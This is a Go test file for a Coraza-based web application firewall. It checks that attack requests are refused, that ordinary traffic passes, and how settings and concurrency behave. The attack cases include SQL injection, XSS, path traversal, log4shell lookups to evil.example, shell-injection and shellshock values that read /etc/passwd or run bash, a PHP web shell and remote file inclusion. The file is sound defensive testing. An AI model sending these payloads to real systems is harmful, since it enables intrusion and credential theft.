package coraza

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/platformd/platformd/proxy/waf"
)

const form = "application/x-www-form-urlencoded"

// request is what a browser might send.
func request(t testing.TB, method, uri, kind, body string, headers ...string) *waf.Request {
	t.Helper()
	r, err := http.NewRequest(method, "https://shop.example.org"+uri, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.RequestURI, r.Proto = uri, "HTTP/1.1"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
	r.Header.Set("Accept", "text/html,application/xhtml+xml")
	if kind != "" {
		r.Header.Set("Content-Type", kind)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	b, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return &waf.Request{Request: r, Client: netip.MustParseAddr("192.0.2.7"), Port: 443, Body: b}
}

var loader = sync.OnceValue(func() *Loader {
	dir, err := os.MkdirTemp("", "waf-test-*")
	if err != nil {
		panic(err)
	}
	return New(dir)
})

func TestMain(m *testing.M) {
	code := m.Run()
	os.RemoveAll(loader().dir)
	os.Exit(code)
}

func load(t testing.TB, c waf.Config) waf.Engine {
	t.Helper()
	e, err := loader().Load(c)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestAttacks(t *testing.T) {
	e := load(t, waf.Config{})
	q := url.QueryEscape
	for name, r := range map[string]*waf.Request{
		"sql union":        request(t, "GET", "/item?id="+q("1 UNION SELECT password FROM users--"), "", ""),
		"sql or":           request(t, "POST", "/login", form, "user="+q("admin' OR '1'='1' -- ")+"&password=x"),
		"sql sleep":        request(t, "GET", "/item?id="+q("1;SELECT SLEEP(5)"), "", ""),
		"sql in JSON":      request(t, "POST", "/api", "application/json", `{"id":"1' UNION SELECT NULL,version()--"}`),
		"sql in a cookie":  request(t, "GET", "/", "", "", "Cookie", "id=1' OR 1=1 UNION SELECT 1,2--"),
		"script":           request(t, "GET", "/search?q="+q(`<script>alert(document.cookie)</script>`), "", ""),
		"event handler":    request(t, "POST", "/comment", form, "text="+q(`<img src=x onerror=alert(1)>`)),
		"javascript URL":   request(t, "GET", "/go?to="+q("javascript:alert(1)"), "", ""),
		"path traversal":   request(t, "GET", "/download?file="+q("../../../../etc/passwd"), "", ""),
		"encoded twice":    request(t, "GET", "/download?file=..%252f..%252f..%252fetc%252fpasswd", "", ""),
		"log4shell":        request(t, "GET", "/?x="+q("${jndi:ldap://evil.example/a}"), "", ""),
		"log4shell header": request(t, "GET", "/", "", "", "User-Agent", "${jndi:ldap://evil.example/a}"),
		"log4shell hidden": request(t, "GET", "/?x="+q("${${lower:j}ndi:${lower:l}dap://evil.example/a}"), "", ""),
		"shell":            request(t, "POST", "/ping", form, "host="+q("127.0.0.1; cat /etc/passwd")),
		"shellshock":       request(t, "GET", "/", "", "", "Referer", "() { :; }; /bin/bash -c 'id'"),
		"php":              request(t, "POST", "/upload.php", form, "x="+q(`<?php system($_GET['cmd']); ?>`)),
		"remote file":      request(t, "GET", "/?page="+q("http://192.0.2.66/shell.txt?"), "", ""),
		"scanner":          request(t, "GET", "/", "", "", "User-Agent", "sqlmap/1.8"),
		"restricted file":  request(t, "GET", "/.git/config", "", ""),
		"bad JSON":         request(t, "POST", "/api", "application/json", `{"a":`),
		"unknown method":   request(t, "DEBUG", "/", "", ""),
		"file name":        upload(t, "x.php", "hello"),
	} {
		t.Run(name, func(t *testing.T) {
			f, err := e.Inspect(r)
			if err != nil || !f.Refused || len(f.Rules) == 0 {
				t.Errorf("got %+v, %v", f, err)
			}
		})
	}
}

func upload(t testing.TB, name, content string) *waf.Request {
	t.Helper()
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	w.WriteField("title", "Holidays in Brittany")
	f, err := w.CreateFormFile("photo", name)
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(f, content)
	w.Close()
	return request(t, "POST", "/photos", w.FormDataContentType(), b.String())
}

func TestHonest(t *testing.T) {
	e := load(t, waf.Config{})
	q := url.QueryEscape
	for name, r := range map[string]*waf.Request{
		"page":          request(t, "GET", "/", "", ""),
		"search":        request(t, "GET", "/search?q="+q("rock 'n' roll, O'Reilly & sons: select your seat!")+"&page=2", "", ""),
		"login":         request(t, "POST", "/login", form, "user=alice%40example.org&password="+q("c0rrect-horse+battery")),
		"JSON":          request(t, "POST", "/api/orders", "application/json", `{"items":[{"id":17,"count":2}],"note":"please ring twice; thanks!"}`),
		"PUT":           request(t, "PUT", "/api/orders/17", "application/json", `{"count":3}`),
		"DELETE":        request(t, "DELETE", "/api/orders/17", "", ""),
		"long comment":  request(t, "POST", "/comment", form, "text="+q(strings.Repeat("It was a dark and stormy night. ", 300))),
		"unicode":       request(t, "POST", "/comment", form, "text="+q("Grüße aus Köln, 東京 и Москвы")),
		"upload":        upload(t, "photo.jpg", strings.Repeat("\x00\xff\xd8binary", 1000)),
		"cookies":       request(t, "GET", "/", "", "", "Cookie", "session=b2f1c3d4e5; theme=dark; _ga=GA1.2.1; consent=%7B%22a%22%3Atrue%7D"),
		"calendar":      request(t, "PROPFIND", "/dav/alice/", "", ""),
		"web socket":    request(t, "GET", "/ws", "", "", "Connection", "Upgrade", "Upgrade", "websocket", "Sec-Websocket-Key", "x3JJHMbDL1EzLkh9GBhXDw==", "Sec-Websocket-Version", "13"),
		"version range": request(t, "GET", "/files/app_1.2.3~beta+4.tar.gz?sig=Zm9v%2BYmFy", "", ""),
	} {
		t.Run(name, func(t *testing.T) {
			if f, err := e.Inspect(r); err != nil || f.Refused {
				t.Errorf("got %+v, %v", f, err)
			}
		})
	}
	// The files of forms are gone again.
	if left, err := os.ReadDir(loader().dir); err != nil || len(left) != 0 {
		t.Errorf("left behind: %v, %v", left, err)
	}
}

func TestSettings(t *testing.T) {
	attack := request(t, "GET", "/item?id="+url.QueryEscape("1 UNION SELECT password FROM users--"), "", "")
	f, err := load(t, waf.Config{}).Inspect(attack)
	if err != nil || !f.Refused {
		t.Fatalf("got %+v, %v", f, err)
	}
	if f, err := load(t, waf.Config{Skip: f.Rules}).Inspect(attack); err != nil || f.Refused || len(f.Rules) != 0 {
		t.Errorf("all its rules are skipped: got %+v, %v", f, err)
	}
	if f, err := load(t, waf.Config{Threshold: 1000}).Inspect(attack); err != nil || f.Refused || len(f.Rules) == 0 {
		t.Errorf("a high threshold: got %+v, %v", f, err)
	}
	odd := request(t, "GET", "/?x=%27%27%3B%3B--", "", "")
	strict, err := load(t, waf.Config{Paranoia: 4}).Inspect(odd)
	lax, err2 := load(t, waf.Config{}).Inspect(odd)
	if err != nil || err2 != nil || !strict.Refused || lax.Refused {
		t.Errorf("paranoia 4: %+v, %v; 1: %+v, %v", strict, err, lax, err2)
	}
	if load(t, waf.Config{}) != load(t, waf.Config{Mode: waf.Detect, Paranoia: 1}) {
		t.Error("the same rules were loaded twice")
	}
}

func TestManyAtOnce(t *testing.T) {
	e := load(t, waf.Config{})
	var group sync.WaitGroup
	for i := range 8 {
		good := request(t, "POST", "/comment", form, fmt.Sprint("text=hello+", i))
		bad := request(t, "GET", "/download?file=../../../../etc/passwd", "", "")
		group.Go(func() {
			for range 20 {
				f, err := e.Inspect(good)
				g, err2 := e.Inspect(bad)
				if err != nil || err2 != nil || f.Refused || !g.Refused || !slices.Contains(g.Rules, 930120) {
					t.Errorf("got %+v, %v; %+v, %v", f, err, g, err2)
					return
				}
			}
		})
	}
	group.Wait()
}

func BenchmarkInspect(b *testing.B) {
	e := load(b, waf.Config{})
	r := request(b, "POST", "/comment", form, "text=hello+world&author=alice")
	for b.Loop() {
		if _, err := e.Inspect(r); err != nil {
			b.Fatal(err)
		}
	}
}
